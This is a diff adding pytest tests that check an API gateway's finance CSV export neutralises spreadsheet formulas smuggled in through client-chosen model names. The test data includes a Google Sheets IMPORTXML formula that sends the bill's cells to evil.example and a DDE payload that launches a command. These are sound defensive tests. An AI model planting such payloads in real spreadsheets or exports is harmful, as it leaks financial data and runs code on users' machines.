@@ -104,3 +104,62 @@ async def test_a_model_name_a_client_chose_shows_in_the_table_and_does_nothing(
     assert exported["model"] == model
     code = await asyncio.to_thread(main, ["usage", "export", "--by", "model", "--format", "json"])
     assert orjson.loads(capsys.readouterr().out)["rows"][0]["model"] == model
+
+
+async def ask_chat_of_anthropic(config: GatewayConfig, writer: UsageWriter, model: str) -> None:
+    """An OpenAI client's call on /anthropic, whose provider serves any model name."""
+    gateway = processor_for(config, Services(GatewayMetrics(), MemoryLog(), usage_writer=writer))
+    body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
+    answer = {
+        "id": "msg_1", "type": "message", "role": "assistant", "model": model,
+        "content": [{"type": "text", "text": "hello"}], "stop_reason": "end_turn",
+        "usage": {"input_tokens": 12, "output_tokens": 7},
+    }  # fmt: skip
+    await run_stream(
+        gateway,
+        [
+            request_headers(
+                "/anthropic/chat/completions", headers={"authorization": "Bearer team1-key"}
+            ),
+            request_body(orjson.dumps(body)),
+            response_headers(200, {"content-type": "application/json"}),
+            response_body(orjson.dumps(answer)),
+        ],
+    )
+    assert await writer.flush() is True
+
+
+@pytest.mark.parametrize(
+    "model",
+    [
+        # Google Sheets runs it on import: the bill's other cells go to the URL.
+        '=IMPORTXML(CONCAT("https://evil.example/?",A2:H99),"//a")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        # The mark itself: doubled, so that dropping one mark always gives the value back.
+        "'=1+1",
+    ],
+)
+async def test_a_model_name_a_client_chose_is_no_formula_in_the_finance_csv(
+    config: GatewayConfig,
+    writer: UsageWriter,
+    store_url: str,
+    capsys: pytest.CaptureFixture[str],
+    model: str,
+) -> None:
+    # A key holder names its model on a route whose provider takes any name; the row
+    # lands in the CSV the finance team opens in a spreadsheet, which ran the cell.
+    await ask_chat_of_anthropic(config, writer, model)
+
+    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model,group"])
+
+    exported = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert code == 0
+    assert [(row["model"], row["group_id"], row["requests"]) for row in exported] == [
+        ("'" + model, "engineering", "1")
+    ]
+    # JSON, for programs, keeps it as the log line has it.
+    code = await asyncio.to_thread(main, ["usage", "export", "--by", "model", "--format", "json"])
+    assert orjson.loads(capsys.readouterr().out)["rows"][0]["model"] == model
